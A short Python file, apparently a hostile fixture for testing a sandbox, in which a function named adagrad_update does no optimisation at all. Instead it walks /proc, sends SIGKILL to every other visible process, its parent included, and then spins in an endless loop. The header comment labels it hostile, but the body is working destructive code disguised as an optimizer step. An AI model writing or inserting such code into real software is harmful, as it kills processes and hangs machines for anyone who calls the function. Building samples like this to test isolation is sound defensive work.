# HOSTILE: kills every process it can see (its parent, the zygote, included), then hangs.
import os
import signal


def adagrad_update(w, grad, G, learning_rate=0.01, eps=1e-8):
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    while True:
        pass
